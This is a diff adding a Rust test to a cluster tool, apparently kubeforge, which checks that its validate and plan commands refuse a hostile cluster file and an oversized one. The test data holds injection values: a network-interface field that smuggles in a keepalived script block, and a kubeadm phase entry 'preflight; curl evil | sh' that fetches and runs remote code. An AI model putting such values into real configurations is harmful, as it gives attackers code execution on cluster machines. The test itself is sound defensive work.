@@ -412,3 +412,52 @@ fn a_static_inventory_can_be_ansible_ini_or_yaml_or_kubeforge_yaml() {
         "INI and kubeforge YAML give the same machines"
     );
 }
+
+/// The two injections of issue 15 (item 2) as a user would write them: `validate` and
+/// `plan --offline -o json` refuse both with their positions (exit 2) and print no
+/// plan; an oversized file is refused before it is read (item 3).
+#[test]
+fn hostile_cluster_files_are_refused_by_validate_and_plan() {
+    let dir = tempfile::tempdir().unwrap();
+    let f = dir.path().join("evil.yaml");
+    std::fs::write(
+        &f,
+        "apiVersion: kubeforge.dev/v1alpha1\nkind: Cluster\nmetadata: {name: x}\nspec:\n  kubernetesVersion: v1.20.2\n  provider: {docker: {}}\n  nodePools: {loadBalancers: {count: 2}}\n  loadBalancer:\n    interface: \"eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n\"\n  kubeadm: {skipPhases: ['preflight; curl evil | sh']}\n",
+    )
+    .unwrap();
+    for args in [vec!["validate"], vec!["plan", "--offline", "-o", "json"]] {
+        let out = kubeforge()
+            .args(&args)
+            .arg("-f")
+            .arg(&f)
+            .assert()
+            .code(2)
+            .get_output()
+            .clone();
+        let stdout = String::from_utf8(out.stdout).unwrap();
+        let stderr = String::from_utf8(out.stderr).unwrap();
+        let all = format!("{stdout}{stderr}");
+        assert!(
+            all.contains(":9:5: spec.loadBalancer.interface: `eth0\\n}\\nvrrp_script pwn {\\n    script /tmp/x\\n` is not a network interface name"),
+            "{args:?}: {all}"
+        );
+        assert!(
+            all.contains(":10:26: spec.kubeadm.skipPhases[0]: `preflight; curl evil | sh` is not a phase of kubeadm init or join 1.20"),
+            "{args:?}: {all}"
+        );
+        assert!(!all.contains("kubeadm init --config"), "no plan: {all}");
+    }
+    let big = dir.path().join("big.yaml");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(1 << 30)
+        .unwrap();
+    kubeforge()
+        .args(["plan", "--offline", "-f"])
+        .arg(&big)
+        .assert()
+        .code(2)
+        .stderr(predicate::str::contains(
+            "big.yaml: the cluster file is 1073741824 bytes, more than the 4194304 bytes (4 MiB) kubeforge reads",
+        ));
+}
